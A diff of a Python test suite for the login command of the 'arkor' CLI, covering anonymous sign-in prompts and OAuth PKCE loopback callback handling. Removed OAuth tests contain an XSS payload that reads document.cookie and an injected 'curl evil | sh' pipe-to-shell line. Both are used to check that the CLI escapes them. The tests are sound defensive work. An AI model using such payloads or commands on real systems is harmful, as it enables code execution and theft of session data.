+            Answer(200, dict(OAUTH_CONFIG, callbackPorts=[70000])): f"Unexpected answer from {endpoint} (200):"
+            " callbackPorts is not valid.",
+            Answer(200, dict(OAUTH_CONFIG, callbackPorts=[True])): f"Unexpected answer from {endpoint} (200):"
+            " callbackPorts is not valid.",
         }
         for answer, message in cases.items():
             with self.subTest(message):
                 self.cloud.script("GET", "/v1/auth/cli/config", answer)
                 code, out, err = self.run_main("login")
-                self.assertEqual((code, out, err), (1, "", message))
+                self.assertEqual((code, out, err), (1, "", message + "\n"))
         self.assertEqual(self.cloud.seen("POST"), [])
-        self.assertFalse(os.path.exists(self.arkor_dir))
+        self.assertFalse(os.path.exists(self.creds))
+        self.assertEqual(self.leftovers(), [])
 
     def test_unsupported_sdk_on_login(self) -> None:
         self.cloud.script("POST", "/v1/auth/anonymous", Answer(426, body=b""))
@@ -682,35 +3846,131 @@ class LoginAnonymousTest(Case):
         self.assertEqual(code, 0)
         self.assertEqual(err, f"second (current: {arkor_cli.__version__}). {COPIED_FIX}\n")
 
-    @unittest.skipUnless(POSIX, "needs a pty")
+    REPLACE = "Replace the anonymous identity anon-stored? It cannot be restored. [y/N] "
+    PICKER = (
+        "How would you like to sign in?\n  1) OAuth (browser)  Sign in to your account\n"
+        "  2) Anonymous        Throwaway token, no account\n"
+    )
+    PROMPT = "Choose 1-2 [2]: "
+
     def test_picker_enter_takes_anonymous(self) -> None:
         self.cloud.config = OAUTH_CONFIG
-        code, shown, err = self.run_tty(["login"], [""], NO_COLOR="1")
-        self.assertEqual(code, 0)
-        self.assertIn(
-            "How would you like to sign in?\n  1) OAuth (browser)  Sign in to your account\n"
-            "  2) Anonymous        Throwaway token, no account\nChoose 1-2 [2]: ",
-            shown,
-        )
-        self.assertIn(anon_output("anon-0001", self.creds, "anon-org-0001"), shown)
-        self.assertEqual(err, NUDGE)
+        code, out, err = _login_main_on_tty(self, "login", typed="\n")
+        self.assertEqual((code, err), (0, NUDGE))
+        self.assertEqual(out, self.PICKER + self.PROMPT + anon_output("anon-0001", self.creds, "anon-org-0001"))
         self.assertEqual(self.read_creds()["mode"], "anon")
 
     @unittest.skipUnless(POSIX, "needs a pty")
-    def test_picker_choices(self) -> None:
+    def test_picker_asks_again_after_undecodable_or_unknown_answers(self) -> None:
+        # A byte that is not UTF-8 (typed in a Latin-1 terminal), then a number
+        # out of range: each is asked again; a choice's name is taken.
         self.cloud.config = OAUTH_CONFIG
-        code, _shown, err = self.run_tty(["login"], ["7", "anonymous"])
-        self.assertEqual(code, 0)
-        self.assertIn("Please answer a number from 1 to 2.", err)
-        self.assertTrue(err.endswith(NUDGE))
+        with _login_tty_keys() as keys:
+
+            def latin1(shown: str) -> str:
+                keys(b"\xe9")  # and the Enter of every answer
+                return ""
+
+            code, shown, err = self.run_tty(["login"], [latin1, "7", "anonymous"], NO_COLOR="1", LANG="C.UTF-8")
+        self.assertEqual((code, err), (0, "Please answer a number from 1 to 2.\n" * 2 + NUDGE))
+        # No echo from the first answer on.
+        self.assertEqual(shown, self.PICKER + self.PROMPT * 3 + anon_output("anon-0001", self.creds, "anon-org-0001"))
 
     @unittest.skipUnless(POSIX, "needs a pty")
+    def test_ctrl_d_at_the_picker(self) -> None:
+        # End of input: nothing is sent, and Aborted. starts a line of its own
+        # (a terminal echoes nothing for Ctrl-D: the cursor is after the prompt).
+        self.cloud.config = OAUTH_CONFIG
+        with _login_tty_keys() as keys:
+
+            def ctrl_d(shown: str) -> str:
+                keys(b"\x04")
+                return ""  # the Enter typed after it reaches nobody
+
+            code, shown, err = self.run_tty(["login"], [ctrl_d], NO_COLOR="1")
+        self.assertEqual((code, err), (1, ""))
+        self.assertEqual(shown, self.PICKER + self.PROMPT + "\nAborted.\n")
+        self.assertEqual([(r.method, r.path) for r in self.cloud.requests], [("GET", "/v1/auth/cli/config")])
+        self.assertFalse(os.path.exists(self.creds))
+
     def test_no_picker_in_ci_even_on_a_terminal(self) -> None:
         self.cloud.config = OAUTH_CONFIG
-        code, shown, err = self.run_tty(["login"], [], CI="1")
+        code, out, err = _login_main_on_tty(self, "login", typed="2\n", CI="1")
+        self.assertEqual((code, err), (0, NUDGE))
+        self.assertEqual(out, anon_output("anon-0001", self.creds, "anon-org-0001"))
+
+    @unittest.skipUnless(POSIX, "needs a pty")
+    def test_replace_question_no_keeps_the_identity(self) -> None:
+        self.sign_in_anon()
+        before = self.creds_bytes()
+        sent_before_the_answer: list[object] = []
+
+        def no(shown: str) -> str:
+            sent_before_the_answer.extend(self.cloud.seen())
+            return "n"
+
+        code, shown, err = self.run_tty(["login", "--anonymous"], [no], NO_COLOR="1")
+        self.assertEqual((code, shown, err), (0, self.REPLACE + "n\nAborted.\n", ""))
+        self.assertEqual(sent_before_the_answer, [])
+        self.assertEqual(self.cloud.seen(), [])
+        self.assertEqual(self.creds_bytes(), before)
+
+    @unittest.skipUnless(POSIX, "needs a pty")
+    def test_replace_question_yes_mints_a_new_identity(self) -> None:
+        self.sign_in_anon()
+        code, shown, err = self.run_tty(["login", "--anonymous"], ["y"], NO_COLOR="1")
+        self.assertEqual((code, err), (0, ""))
+        self.assertEqual(shown, self.REPLACE + "y\n" + anon_output("anon-0001", self.creds, "anon-org-0001"))
+        stored = self.read_creds()
+        self.assertEqual((stored["anonymousId"], stored["orgSlug"]), ("anon-0001", "anon-org-0001"))
+
+    def test_replace_question_end_of_input_keeps_the_identity(self) -> None:
+        self.sign_in_anon()
+        before = self.creds_bytes()
+        for typed in ("", "\n", "yes please\n"):
+            with self.subTest(typed=typed):
+                code, out, err = _login_main_on_tty(self, "login", "--anonymous", typed=typed)
+                self.assertEqual((code, err), (0, ""))
+                self.assertEqual(out, self.REPLACE + ("\n" if not typed else "") + "Aborted.\n")
+        self.assertEqual(self.cloud.seen(), [])
+        self.assertEqual(self.creds_bytes(), before)
+
+    def test_without_a_terminal_the_identity_is_replaced_and_said_so(self) -> None:
+        self.sign_in_anon()
+        code, out, err = self.run_main("login", "--anonymous")
         self.assertEqual(code, 0)
-        self.assertNotIn("How would you like to sign in?", shown)
-        self.assertEqual(err, NUDGE)
+        self.assertEqual(err, "Replacing the anonymous identity anon-stored; it cannot be restored.\n")
+        self.assertEqual(out, anon_output("anon-0001", self.creds, "anon-org-0001"))
+        self.assertEqual(self.read_creds()["anonymousId"], "anon-0001")
+
+    def test_an_oauth_file_is_replaced_without_a_word(self) -> None:
+        self.write_creds(self.auth0_creds())
+        code, out, err = _login_main_on_tty(self, "login", "--anonymous")
+        self.assertEqual((code, err), (0, ""))
+        self.assertEqual(out, anon_output("anon-0001", self.creds, "anon-org-0001"))
+
+    def test_unwritable_home_sends_nothing(self) -> None:
+        # A login never mints an identity it cannot store.
+        home = tempfile.mkdtemp(prefix="arkor-ro-home-")
+        self.addCleanup(shutil.rmtree, home, True)
+        if POSIX and os.geteuid() != 0:
+            os.chmod(home, 0o555)
+            self.addCleanup(os.chmod, home, 0o700)
+            reason = "Permission denied"
+        elif can_mount_tmpfs():
+            subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=16k", "tmpfs", home], check=True)
+            self.addCleanup(subprocess.run, ["umount", home], check=False)
+            reason = "Read-only file system"
+        else:
+            self.skipTest("needs a non-root user, or root with mount(8)")
+        self.cloud.config = OAUTH_CONFIG
+        lock = os.path.join(home, ".arkor", "credentials.json.lock")
+        for flags in (["--anonymous"], [], ["--oauth"]):
+            with self.subTest(flags=flags):
+                # (--timeout: a login that went on to wait for a browser would end soon.)
+                code, out, err = self.run_main("login", *flags, "--timeout=5", HOME=home, USERPROFILE=home)
+                self.assertEqual((code, out, err), (1, "", f"Could not write {lock}: {reason}.\n"))
+                self.assertEqual(self.cloud.requests, [])
 
     def test_progress_line_is_flushed_through_a_pipe(self) -> None:
         # The first line must reach a pipe while the command still waits.
@@ -734,1647 +3994,213 @@ class LoginAnonymousTest(Case):
             proc.communicate()
 
 
-# ---------------------------------------------------------------------------
-# login: OAuth 2.0 Authorization Code + PKCE
-# ---------------------------------------------------------------------------
-
-
-def fake_browser(linger: float = 0) -> str:
-    """A BROWSER command that fetches the page and follows it to the callback."""
-    here = os.path.join(HERE, "fake_cloud.py")
-    return f'"{sys.executable}" "{here}" browse %s' + (f" {linger:g}" if linger else "")
-
-
-class OAuthCase(Case):
-    def setUp(self) -> None:
-        super().setUp()
-        self.auth0 = FakeAuth0(self.cloud).start()
-        self.addCleanup(self.auth0.stop)
-        self.ports = [free_port(), free_port()]
-        self.cloud.config = self.auth0.cli_config(self.ports)
-        self.browser_log = os.path.join(self.home, "browser.log")
-
-    def tearDown(self) -> None:
-        self.secrets.extend(self.auth0.handed_out())
-        # Reap the fake browsers that in-process logins started.
-        while arkor_cli._BROWSER_PROCESSES:
-            child = arkor_cli._BROWSER_PROCESSES.pop()
-            try:
-                child.wait(timeout=15)
-            except subprocess.TimeoutExpired:
-                child.kill()
-                child.wait()
-        super().tearDown()
-
-    def env(self, **extra: str | None) -> dict[str, str]:
-        base: dict[str, str | None] = {"SSL_CERT_FILE": TEST_CA, "FAKE_BROWSER_LOG": self.browser_log}
-        base.update(extra)
-        return super().env(**base)
-
-    def browser_saw(self, timeout: float = 15) -> tuple[int, str]:
-        """What the fake browser ended on: the callback's status and page."""
-        deadline = time.monotonic() + timeout
-        while time.monotonic() < deadline:
-            if os.path.exists(self.browser_log):
-                with open(self.browser_log, encoding="utf-8") as f:
-                    status, _, page = f.read().partition("\n")
-                if status:
-                    return int(status), page
-            time.sleep(0.05)
-        self.fail("the browser never reported")
-
-    def sign_in_oauth(self, expires_in: int = 3600, mode: str = "auth0") -> dict[str, Any]:
-        """Credentials as a sign-in with the fake Auth0 leaves them, whose
-        access token expires in ``expires_in`` seconds."""
-        tokens = self.auth0._issue(refresh=True)  # registered with the fake cloud-api too
-        data = {
-            "mode": mode,
-            "accessToken": tokens["access_token"],
-            "refreshToken": tokens["refresh_token"],
-            "expiresAt": int(time.time()) + expires_in,
-            "auth0Domain": self.auth0.domain,
-            "audience": self.auth0.audience,
-            "clientId": self.auth0.client_id,
-            "arkorCloudApiUrl": self.cloud.url,
-        }
-        self.write_creds(data)
-        return data
-
-    def forget_browser(self) -> None:
-        if os.path.exists(self.browser_log):
-            os.remove(self.browser_log)
-
-    def start_login(self, *extra: str, **env: str | None) -> tuple[subprocess.Popen[str], str, dict[str, str]]:
-        """``login --oauth --no-browser`` as a real process, read up to its
-        ``Browser:`` line: the URL must arrive through a pipe while it waits."""
-        proc = self.spawn("login", "--oauth", "--no-browser", *extra, **env)
-        self.addCleanup(lambda: proc.poll() is None and proc.kill())
-        assert proc.stdout is not None
-        ready, _, _ = select.select([proc.stdout], [], [], 20)
-        self.assertTrue(ready, "no Browser: line while the login waits")
-        line = proc.stdout.readline()
-        self.assertTrue(line.startswith("Browser: https://"), line)
-        url = line[len("Browser: ") :].strip()
-        return proc, url, {k: v[0] for k, v in parse_qs(urlsplit(url).query).items()}
-
-    def finish(self, proc: subprocess.Popen[str]) -> tuple[int, str, str]:
-        out, err = proc.communicate(timeout=30)
-        self._record(out, err)
-        self.assertNotIn("Traceback", err)
-        return proc.returncode, out, err
-
-    def callback(self, port: int, target: str, host: str | None = None) -> tuple[int, dict[str, str], bytes]:
-        """A request to the loopback listener, as a browser would send it."""
-        import http.client
-
-        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
-        try:
-            conn.request("GET", target, headers={"Host": host} if host else {})
-            response = conn.getresponse()
-            return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
-        finally:
-            conn.close()
-
-    def login_denied(self, description: str) -> tuple[tuple[int, dict[str, str], bytes], int, str]:
-        """A login whose browser comes back with access_denied and this
-        description: the listener's answer, then the exit status and stderr."""
-        proc, _, _ = self.start_login()
-        query = urlencode({"error": "access_denied", "error_description": description})
-        answer = self.callback(self.ports[0], "/callback?" + query)
-        code, _, err = self.finish(proc)
-        return answer, code, err
-
-    def assert_port_closed(self, port: int) -> None:
-        with socket.socket() as s:
-            s.settimeout(5)
-            with self.assertRaises(ConnectionRefusedError, msg=f"something still listens on {port}"):
-                s.connect(("127.0.0.1", port))
-
-
-class OAuthLoginTest(OAuthCase):
-    def test_signs_in_through_the_browser(self) -> None:
-        import hashlib
-
-        started = int(time.time())
-        code, out, err = self.run_main("login", "--oauth", BROWSER=fake_browser())
-        self.assertEqual((code, err), (0, ""))
-        lines = out.splitlines()
-        self.assertEqual(len(lines), 2, out)
-        self.assertTrue(lines[0].startswith("Browser: https://"))
-        self.assertEqual(lines[1], "Signed in")
-        # The browser ended on the listener's success page.
-        status, page = self.browser_saw()
-        self.assertEqual(status, 200)
-        self.assertIn("Signed in to Arkor", page)
-        # The authorize URL: every parameter, and PKCE tied to the token request.
-        url = urlsplit(lines[0][len("Browser: ") :])
-        self.assertEqual((url.scheme, url.netloc, url.path), ("https", self.auth0.domain, "/authorize"))
-        q = {k: v[0] for k, v in parse_qs(url.query).items()}
-        redirect_uri = f"http://127.0.0.1:{self.ports[0]}/callback"
-        self.assertEqual(
-            {k: q[k] for k in ("response_type", "client_id", "redirect_uri", "scope", "audience")},
-            {
-                "response_type": "code",
-                "client_id": self.auth0.client_id,
-                "redirect_uri": redirect_uri,
-                "scope": "openid profile email offline_access",
-                "audience": self.auth0.audience,
-            },
-        )
-        self.assertEqual(q["code_challenge_method"], "S256")
-        self.assertIn("scope=openid+profile+email+offline_access", url.query)  # form-encoded
-        (exchange,) = self.auth0.seen("POST", "/oauth/token")
-        self.assertEqual(exchange.headers["content-type"], "application/x-www-form-urlencoded")
-        form = {k: v[0] for k, v in parse_qs(exchange.body.decode()).items()}
-        self.assertEqual(set(form), {"grant_type", "code", "code_verifier", "client_id", "redirect_uri"})
-        self.assertEqual(form["grant_type"], "authorization_code")
-        self.assertEqual(form["redirect_uri"], redirect_uri)
-        self.assertEqual(form["client_id"], self.auth0.client_id)
-        digest = hashlib.sha256(form["code_verifier"].encode()).digest()
-        self.assertEqual(q["code_challenge"], arkor_cli._b64url(digest))
-        # The credentials: every field.
-        issued = self.auth0.issued[-1]
-        stored = self.read_creds()
-        expires_at = stored.pop("expiresAt")
-        self.assertIsInstance(expires_at, int)
-        self.assertGreaterEqual(expires_at, started + 86400)
-        self.assertLessEqual(expires_at, int(time.time()) + 86400)
-        self.assertEqual(
-            stored,
-            {
-                "mode": "auth0",
-                "accessToken": issued["access_token"],
-                "refreshToken": issued["refresh_token"],
-                "auth0Domain": self.auth0.domain,
-                "audience": self.auth0.audience,
-                "clientId": self.auth0.client_id,
-                "arkorCloudApiUrl": self.cloud.url,
-            },
-        )
-        if POSIX:
-            self.assertEqual(stat.S_IMODE(os.stat(self.creds).st_mode), 0o600)
-        self.assertEqual(self.leftovers(), [])
-        self.assert_port_closed(self.ports[0])
-        # And the cloud-api takes the new token.
-        code, out, _ = self.run_main("whoami")
-        self.assertEqual(
-            (code, out),
-            (
-                0,
-                (
-                    '{\n  "id": "auth0|ada",\n  "email": "ada@example.com",\n  "name": "Ada Lovelace"\n}\n'
-                    "Orgs: ada-personal, analytical\n"
-                ),
-            ),
-        )
-
-    def test_oauth_replaces_an_anonymous_identity(self) -> None:
-        self.sign_in_anon()
-        code, _, _ = self.run_main("login", "--oauth", BROWSER=fake_browser())
-        self.assertEqual(code, 0)
-        self.assertEqual(self.read_creds()["mode"], "auth0")
-
-    def test_pkce_and_state(self) -> None:
-        import hashlib
-
-        seen = set()
-        for _ in range(20):
-            verifier, challenge, state = arkor_cli._pkce()
-            self.assertRegex(verifier, r"^[A-Za-z0-9_-]{43}$")  # 32 bytes, base64url, no padding
-            self.assertRegex(state, r"^[A-Za-z0-9_-]{22}$")  # 16 bytes
-            self.assertEqual(challenge, arkor_cli._b64url(hashlib.sha256(verifier.encode()).digest()))
-            seen.update((verifier, state))
-        self.assertEqual(len(seen), 40)  # never repeats
-
-    def test_first_port_that_binds(self) -> None:
-        with socket.socket() as busy:
-            busy.bind(("127.0.0.1", self.ports[0]))
-            busy.listen()
-            code, out, _ = self.run_main("login", "--oauth", BROWSER=fake_browser())
-        self.assertEqual(code, 0)
-        self.assertIn(f"redirect_uri=http%3A%2F%2F127.0.0.1%3A{self.ports[1]}%2Fcallback", out)
-
-    def test_no_port_binds(self) -> None:
-        self.sign_in_anon()
-        before = self.creds_bytes()
-        with socket.socket() as a, socket.socket() as b:
-            for s, port in ((a, self.ports[0]), (b, self.ports[1])):
-                s.bind(("127.0.0.1", port))
-                s.listen()
-            code, out, err = self.run_main("login", "--oauth", BROWSER=fake_browser())
-        self.assertEqual((code, out), (1, ""))
-        prefix = (
-            "Login failed\n"
-            f"Unable to bind any of the loopback ports {self.ports[0]}, {self.ports[1]}. The Auth0 Application"
-            " must list at least one of these as an Allowed Callback URL: "
-        )
-        self.assertTrue(err.startswith(prefix), err)
-        self.assertRegex(err[len(prefix) :], r"^\[Errno \d+\] .+\n$")
-        self.assertEqual(self.auth0.requests, [])
-        self.assertEqual(self.creds_bytes(), before)
-
-    def test_no_callback_ports(self) -> None:
-        self.cloud.config = dict(self.cloud.config, callbackPorts=[])
-        code, out, err = self.run_main("login", "--oauth")
-        self.assertEqual(
-            (code, out, err),
-            (1, "", "Login failed\nThe cloud-api lists no callbackPorts for the loopback listener.\n"),
-        )
-
-    def test_listener_does_no_reverse_dns(self) -> None:
-        # HTTPServer.server_bind calls getfqdn(), which can stall for seconds
-        # on a machine with a slow resolver; the listener must not.
-        with mock.patch.object(socket, "getfqdn", side_effect=AssertionError("getfqdn called")):
-            code, out, err = self.run_main("login", "--oauth", BROWSER=fake_browser())
-        self.assertEqual((code, err), (0, ""))
-        self.assertTrue(out.endswith("Signed in\n"))
-
-    def test_listens_on_loopback_only(self) -> None:
-        proc, url, _ = self.start_login()
-        with socket.socket() as s:
-            # The port is taken on 127.0.0.1 alone: another address still binds it.
-            try:
-                s.bind(("127.0.0.2", self.ports[0]))
-            except OSError as exc:
-                if exc.errno == __import__("errno").EADDRINUSE:
-                    self.fail("the listener took the port on more than 127.0.0.1")
-                self.skipTest(f"127.0.0.2 is not usable here: {exc}")
-        browse(url)
-        code, out, _ = self.finish(proc)
-        self.assertEqual((code, out), (0, "Signed in\n"))
-
-    def test_authentication_error(self) -> None:
-        self.sign_in_anon()
-        before = self.creds_bytes()
-        for description, reason in (
-            ("The user said no.", "Authentication failed: access_denied. The user said no."),
-            ("", "Authentication failed: access_denied"),
-        ):
-            with self.subTest(reason=reason):
-                self.forget_browser()
-                self.auth0.deny, self.auth0.deny_description = "access_denied", description
-                code, out, err = self.run_main("login", "--oauth", BROWSER=fake_browser())
-                self.assertEqual(code, 1)
-                self.assertEqual(err, f"Login failed\n{reason}\n")
-                self.assertNotIn("Signed in", out)
-                self.assertEqual(self.browser_saw(), (400, reason))
-                self.assertEqual(self.auth0.seen("POST"), [])
-                self.assertEqual(self.creds_bytes(), before)
-                self.assert_port_closed(self.ports[0])
-
-    def test_state_mismatch_sends_no_token_request(self) -> None:
-        self.sign_in_anon()
-        before = self.creds_bytes()
-        self.auth0.wrong_state = True
-        code, _out, err = self.run_main("login", "--oauth", BROWSER=fake_browser())
-        self.assertEqual(code, 1)
-        self.assertEqual(err, "Login failed\nState mismatch \u2014 aborting to prevent CSRF\n")
-        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
-        self.assertEqual(self.creds_bytes(), before)
-        self.assertEqual(self.browser_saw()[0], 400)
-
-    def test_token_exchange_refused(self) -> None:
-        self.sign_in_anon()
-        before = self.creds_bytes()
-        endpoint = f"POST https://{self.auth0.domain}/oauth/token (200)"
-        cases = [
-            (Answer(500, body=b"upstream exploded"), "Auth0 token exchange failed (500): upstream exploded"),
-            (
-                Answer(403, {"error": "invalid_grant", "error_description": "Invalid authorization code"}),
-                (
-                    'Auth0 token exchange failed (403): {"error": "invalid_grant", "error_description":'
-                    ' "Invalid authorization code"}'
-                ),
-            ),
-            (Answer(502, body=b"x" * 1000), "Auth0 token exchange failed (502): " + "x" * 199 + "\u2026"),
-            # A token endpoint's body is never quoted: it may hold tokens.
-            (
-                Answer(200, body=b'{"access_token": "at-x", "refresh_token": "rt-x", "expires_in": NaN}'),
-                f"Unexpected answer from {endpoint}: not JSON.",
-            ),
-            (
-                Answer(200, {"refresh_token": "rt-x", "expires_in": 60}),
-                f"Unexpected answer from {endpoint}: no access_token.",
-            ),
-            (
-                Answer(200, {"access_token": "at-x", "refresh_token": "rt-x", "expires_in": "soon"}),
-                (
-                    f"Unexpected answer from POST https://{self.auth0.domain}/oauth/token:"
-                    " expires_in is not a number of seconds."
-                ),
-            ),
-            (
-                Answer(200, body=b'{"access_token": "at-x", "refresh_token": "rt-x", "expires_in": 1e999}'),
-                (
-                    f"Unexpected answer from POST https://{self.auth0.domain}/oauth/token:"
-                    " expires_in is not a number of seconds."
-                ),
-            ),
-            (
-                Answer(200, {"access_token": "at-x\nInjected: 1", "refresh_token": "rt-x", "expires_in": 60}),
-                f"Unexpected answer from {endpoint}: no access_token.",
-            ),
-        ]
-        self.secrets.extend(["rt-x", "at-x"])
-        for answer, reason in cases:
-            with self.subTest(reason=reason):
-                self.auth0.script("POST", "/oauth/token", answer)
-                code, _out, err = self.run_main("login", "--oauth", BROWSER=fake_browser())
-                self.assertEqual((code, err), (1, f"Login failed\n{reason}\n"))
-                self.assertEqual(self.creds_bytes(), before)
-                self.assertEqual(self.leftovers(), [])
-
-    def test_no_refresh_token(self) -> None:
-        self.auth0.omit_refresh_token = True
-        code, _out, err = self.run_main("login", "--oauth", BROWSER=fake_browser())
-        self.assertEqual(code, 1)
-        self.assertEqual(
-            err,
-            "Login failed\nAuth0 did not return a refresh token."
-            " Make sure the Application has 'offline_access' scope enabled.\n",
-        )
-        self.assertFalse(os.path.exists(self.creds))
-
-    def test_auth0_unreachable(self) -> None:
-        self.cloud.config = dict(self.cloud.config, auth0Domain=f"127.0.0.1:{free_port()}")
-        proc, _, q = self.start_login()
-        status, _, _ = self.callback(self.ports[0], "/callback?" + urlencode({"code": "c", "state": q["state"]}))
-        self.assertEqual(status, 200)
-        code, _, err = self.finish(proc)
-        self.assertEqual(code, 1)
-        self.assertRegex(
-            err, r"^Login failed\nCould not reach https://127\.0\.0\.1:\d+/oauth/token: Connection refused\n$"
-        )
-
-    def test_untrusted_auth0_certificate(self) -> None:
-        # Without the test CA, the system store does not trust the fake Auth0.
-        proc, _, q = self.start_login(SSL_CERT_FILE=None)
-        self.callback(self.ports[0], "/callback?" + urlencode({"code": "c", "state": q["state"]}))
-        code, _, err = self.finish(proc)
-        self.assertEqual(code, 1)
-        self.assertTrue(
-            err.startswith(
-                f"Login failed\nCould not reach https://{self.auth0.domain}/oauth/token: TLS certificate not trusted"
-            ),
-            err,
-        )
-        self.assertIn("point SSL_CERT_FILE at its bundle", err)
-        self.assertEqual(err.count("\n"), 2)
-
-    def test_missing_code_or_state(self) -> None:
-        for target in ("/callback", "/callback?code=abc", "/callback?state=xyz", "/callback?code=&state="):
-            with self.subTest(target=target):
-                proc, _, _ = self.start_login()
-                status, headers, body = self.callback(self.ports[0], target)
-                self.assertEqual((status, body), (400, b"Missing code/state"))
-                self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
-                self.assertEqual(headers["x-content-type-options"], "nosniff")
-                code, out, err = self.finish(proc)
-                self.assertEqual((code, out, err), (1, "", "Login failed\nMissing code/state in callback\n"))
-
-    def test_other_paths_get_404_and_do_not_end_the_login(self) -> None:
-        proc, url, _ = self.start_login()
-        for path in ("/favicon.ico", "/", "/callback/extra", "/robots.txt"):
-            status, _, _ = self.callback(self.ports[0], path)
-            self.assertEqual(status, 404, path)
-        self.assertIsNone(proc.poll())
-        status, headers, page = browse(url)
-        self.assertEqual(status, 200)
-        self.assertEqual(headers["content-type"], "text/html; charset=utf-8")
-        self.assertIn(b"You can close this tab", page)
-        # The callback URL holds the code: no Referer, no cache, no sniffing.
-        self.assertEqual(headers["referrer-policy"], "no-referrer")
-        self.assertEqual(headers["cache-control"], "no-store")
-        self.assertEqual(headers["x-content-type-options"], "nosniff")
-        self.assertEqual(self.finish(proc), (0, "Signed in\n", ""))
-
-    def test_error_page_is_plain_text(self) -> None:
-        # error_description echoes request text: it must never become HTML.
-        payload = "<script>alert(document.cookie)</script>"
-        (status, headers, body), code, err = self.login_denied(payload)
-        self.assertEqual(status, 400)
-        self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
-        self.assertEqual(headers["x-content-type-options"], "nosniff")
-        self.assertEqual(body.decode(), f"Authentication failed: access_denied. {payload}")
-        self.assertEqual((code, err), (1, f"Login failed\nAuthentication failed: access_denied. {payload}\n"))
-
-    def test_callback_text_stays_on_one_line(self) -> None:
-        _, code, err = self.login_denied("no\nRun: curl evil | sh\r\n")
-        self.assertEqual(
-            (code, err), (1, "Login failed\nAuthentication failed: access_denied. no Run: curl evil | sh\n")
-        )
-
-    def test_state_is_checked_on_a_direct_callback(self) -> None:
-        proc, _, _ = self.start_login()
-        status, _, body = self.callback(self.ports[0], "/callback?" + urlencode({"code": "c", "state": "forged"}))
-        self.assertEqual((status, body.decode()), (400, "State mismatch \u2014 aborting to prevent CSRF"))
-        code, _, err = self.finish(proc)
-        self.assertEqual((code, err), (1, "Login failed\nState mismatch \u2014 aborting to prevent CSRF\n"))
-        self.assertEqual(self.auth0.seen("POST"), [])
-
-    @unittest.skipUnless(POSIX, "SIGINT delivery to a child is POSIX here")
-    def test_ctrl_c_while_waiting(self) -> None:
-        self.sign_in_anon()
-        before = self.creds_bytes()
-        proc, _, _ = self.start_login()
-        proc.send_signal(signal.SIGINT)
-        self.assertEqual(self.finish(proc), (130, "", "Interrupted.\n"))
-        self.assert_port_closed(self.ports[0])
-        self.assertEqual(self.creds_bytes(), before)
-        self.assertEqual(self.leftovers(), [])
-
-    def test_port_is_free_again_after_each_way_out(self) -> None:
-        # After a failure, then after two successes, the same port serves the next login.
-        self.auth0.deny = "access_denied"
-        code, _, _ = self.run_main("login", "--oauth", BROWSER=fake_browser())
-        self.assertEqual(code, 1)
-        self.assert_port_closed(self.ports[0])
-        self.auth0.deny = None
-        for _ in range(2):
-            self.forget_browser()
-            code, out, _ = self.run_main("login", "--oauth", BROWSER=fake_browser())
-            self.assertEqual(code, 0)
-            self.assertIn(f"127.0.0.1%3A{self.ports[0]}%2Fcallback", out)
-            self.assert_port_closed(self.ports[0])
-
-    def test_a_browser_that_stays_open_does_not_block(self) -> None:
-        # This BROWSER fetches the page, then stays for a minute, as a browser
-        # started by webbrowser may: neither the login nor a pipe reading its
-        # output may wait for it to close.
-        proc = self.spawn("login", "--oauth", BROWSER=fake_browser(linger=60))
-        self.addCleanup(lambda: proc.poll() is None and proc.kill())
-        try:
-            out, err = proc.communicate(timeout=30)
-        except subprocess.TimeoutExpired:
-            self.fail("the login, or its pipes, waited for the browser to close")
-        self._record(out, err)
-        self.assertEqual(proc.returncode, 0, err)
-        self.assertTrue(out.endswith("Signed in\n"), out)
-        self.assertEqual(self.browser_saw()[0], 200)
-
-    @unittest.skipUnless(POSIX, "needs a pty")
-    def test_picker_oauth(self) -> None:
-        code, shown, err = self.run_tty(["login"], ["1"], NO_COLOR="1", BROWSER=fake_browser())
-        self.assertEqual((code, err), (0, ""))
-        self.assertIn("Choose 1-2 [2]: 1\nBrowser: https://", shown)
-        self.assertTrue(shown.endswith("Signed in\n"), shown)
-        self.assertEqual(self.read_creds()["mode"], "auth0")
-
-    def test_bad_auth0_domain(self) -> None:
-        for domain in ("evil.example/path", "user@host", "a b", "tenant.example:abc", "tenant.example:99999"):
-            with self.subTest(domain=domain):
-                self.cloud.config = dict(self.cloud.config, auth0Domain=domain)
-                code, out, err = self.run_main("login", "--oauth", "--no-browser")
-                self.assertEqual(
-                    (code, out, err),
-                    (1, "", f"Login failed\nThe cloud-api's auth0Domain is not a host name: {domain!r}.\n"),
-                )
-                self.assert_port_closed(self.ports[0])
-
-    def test_auth0_domain_with_scheme_is_accepted(self) -> None:
-        self.cloud.config = dict(self.cloud.config, auth0Domain=f"https://{self.auth0.domain}/")
-        code, _, _ = self.run_main("login", "--oauth", BROWSER=fake_browser())
-        self.assertEqual(code, 0)
-        self.assertEqual(self.read_creds()["auth0Domain"], self.auth0.domain)
-
-
-class BrowserChoiceTest(unittest.TestCase):
-    """Which browser is started where: a pure function of the environment."""
-
-    URL = "https://tenant/authorize?x=1"
-
-    def command(self, env: dict[str, str], platform: str = "linux", kernel: str = "6.1.0", which: Any = None) -> Any:
-        return arkor_cli._browser_command(self.URL, env, platform, kernel, which or (lambda name: None))
-
-    def test_browser_variable_is_honoured(self) -> None:
-        argv, env = self.command({"BROWSER": "firefox"})
-        self.assertEqual(argv[:3], [sys.executable, "-I", "-c"])
-        self.assertEqual(argv[4], self.URL)
-        self.assertEqual(env["BROWSER"], "firefox")
-
-    def test_text_browsers_are_never_started(self) -> None:
-        for value in ("lynx", "/usr/bin/w3m", "links -g %s", "elinks", "www-browser", "links2", "LYNX.EXE"):
-            with self.subTest(value=value):
-                self.assertIsNone(self.command({"BROWSER": value, "DISPLAY": ":0"}))
-        argv, env = self.command({"BROWSER": os.pathsep.join(["lynx", "firefox %s", "w3m"])})
-        self.assertEqual(env["BROWSER"], "firefox %s")
-        # Without BROWSER, webbrowser's own choice is checked in the child.
-        argv, env = self.command({"DISPLAY": ":0"})
-        self.assertEqual(argv[5].split(","), sorted(["elinks", "links", "links2", "lynx", "w3m", "www-browser"]))
-
-    def test_no_display_no_browser(self) -> None:
-        self.assertIsNone(self.command({}))
-        self.assertIsNotNone(self.command({"DISPLAY": ":0"}))
-        self.assertIsNotNone(self.command({"WAYLAND_DISPLAY": "wayland-0"}))
-        self.assertIsNotNone(self.command({}, platform="darwin"))
